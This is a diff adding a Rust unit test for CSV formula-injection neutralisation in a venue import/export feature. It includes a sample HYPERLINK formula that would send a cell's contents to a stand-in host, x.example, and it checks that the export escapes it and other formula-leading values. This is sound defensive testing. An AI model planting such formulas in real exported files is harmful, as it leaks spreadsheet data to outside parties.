@@ -584,6 +584,38 @@ mod tests {
     }
 
     #[test]
+    fn a_venue_named_as_a_formula_is_exported_as_text_and_read_back_as_named() {
+        let (_dir, mut ws) = with_years();
+        let name = r#"=HYPERLINK("http://x.example/?d="&A1;"Klikk")"#;
+        let csv = format!(
+            "{HEADER}\n\"{}\";kino;;;2026;5;full refusjon;;110,00;110,00\n",
+            name.replace('"', "\"\"")
+        );
+        ws.import_venues_csv(&Actor::command_line(), csv.as_bytes())
+            .expect("import");
+        let out = String::from_utf8(ws.export_venues_csv().expect("export")).expect("utf8");
+        let line = out.lines().nth(1).expect("row");
+        assert!(line.starts_with("\"'=HYPERLINK("), "{line}");
+        for cell in ["+47 99 99 99 99", "-1+A1", "@SUM(A1)", "\tx"] {
+            assert!(
+                crate::exchange::neutralise(cell).starts_with('\''),
+                "{cell}"
+            );
+        }
+        assert_eq!(
+            crate::exchange::neutralise("-5"),
+            "-5",
+            "a number stays a number"
+        );
+        // Read back, it is the same venue: matched, not a new one named with the quote.
+        let again = ws
+            .import_venues_csv(&Actor::command_line(), out.as_bytes())
+            .expect("re-import");
+        assert_eq!((again.venues_created, again.venues_updated), (0, 1));
+        assert_eq!(ws.list_venues().expect("venues")[0].name, name);
+    }
+
+    #[test]
     fn a_norwegian_excel_file_with_semicolons_and_bom_is_imported() {
         let (_dir, mut ws) = with_years();
         let csv = format!(
